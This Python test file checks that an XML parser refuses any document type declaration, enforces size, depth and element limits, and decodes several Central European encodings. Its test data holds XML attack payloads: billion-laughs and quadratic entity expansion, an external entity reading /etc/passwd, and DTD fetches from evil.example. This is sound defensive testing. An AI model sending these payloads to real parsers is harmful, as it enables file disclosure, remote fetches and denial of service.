import pytest

from hsoc.exchange.cap.markup import parse
from hsoc.records.parcel import Unreadable

LIMITS = {"most_bytes": 100_000, "most_elements": 100, "deepest": 5}
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "billion laughs": f'<!DOCTYPE l [<!ENTITY l0 "ha">{LAUGHS}]><l>&l9;</l>',
    "quadratic": f'<!DOCTYPE l [<!ENTITY a "{"a" * 10_000}">]><l>{"&a;" * 1000}</l>',
    "file": '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>',
    "web": '<!DOCTYPE l SYSTEM "http://evil.example/x.dtd"><l/>',
    "parameter": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><l/>',
    "bare": "<!DOCTYPE l><l/>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_document_type_is_refused_before_it_is_read(name):
    with pytest.raises(Unreadable, match="line 1: has a document type"):
        parse(HOSTILE[name].encode(), **LIMITS)


def test_nodes_have_their_space_name_line_and_text():
    root = parse(
        '<?xml version="1.0"?>\n<a xmlns="urn:x" xmlns:o="urn:o">\n<b>č &lt;&#233;<![CDATA[<c/>]]></b><o:d/></a>'.encode(), **LIMITS
    )
    assert (root.space, root.name, root.line) == ("urn:x", "a", 2)
    assert [(one.space, one.name, one.line, one.text) for one in root.nodes] == [("urn:x", "b", 3, "č <é<c/>"), ("urn:o", "d", 3, "")]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "is no XML: no element found"),
        (b"<a><b></a>", "is no XML: mismatched tag"),
        (b"<a>&x;</a>", "is no XML: undefined entity"),
        (b"<a>\xff</a>", "is no XML: not well-formed"),
        (b"<a/>" + b" " * 100_000, "at most 100000 are read"),
        (b"<a>" * 6, "more than 5 levels"),
        (b"<a>" + b"<b/>" * 100 + b"</a>", "more than 100 elements"),
        (b'<?xml version="1.0" encoding="utf-7"?><a/>', "the encoding 'utf-7' is not read"),
        (b'<a b="1" b="2"/>', "duplicate attribute"),
    ],
)
def test_what_is_no_xml_or_too_much_is_refused(content, reason):
    with pytest.raises(Unreadable, match=reason):
        parse(content, **LIMITS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-2", "windows-1250"])
def test_encodings_that_neighbours_use(encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><a>žluť</a>'
    assert parse(text.encode(encoding), **LIMITS).text == "žluť"
